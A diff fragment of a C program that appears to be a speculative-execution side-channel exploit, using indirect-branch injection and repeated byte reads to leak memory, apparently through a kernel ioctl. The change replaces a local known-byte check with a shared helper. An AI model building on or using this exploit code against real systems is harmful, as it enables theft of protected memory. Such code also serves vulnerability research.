@@ -18,7 +18,6 @@
 enum {
 	NO_COMMAND = 0x5eed,	/* of no file */
 	IOCTL_IN_TABLE = 0x50,	/* offset in struct file_operations */
-	ATTEMPTS = 4,
 };
 
 static const uint8_t *array, *branches[MOST_ADDRESSES];
@@ -44,16 +43,6 @@ static int sample(int index)
 	return read_byte(options.address + index);
 }
 
-/* Whether a byte that is known can be read. */
-static int works(void)
-{
-	int right = 0;
-
-	for (int i = 0; i < ATTEMPTS; i++)
-		right += read_byte(options.known) == KNOWN_BYTE;
-	return right > 1;
-}
-
 int main(int argc, char **argv)
 {
 	int pipes[2];
@@ -73,7 +62,7 @@ int main(int argc, char **argv)
 		branches[i] = place_branch(options.branches.at[i], INDIRECT_JUMP);
 	for (int i = 0; i < options.disclosures.count; i++) {
 		disclosure = options.disclosures.at[i];
-		if (works())
+		if (reads_known_byte(read_byte))
 			break;
 	}
 	recover(sample, (struct patience){ .samples = 12, .lead = 2 }, 1);
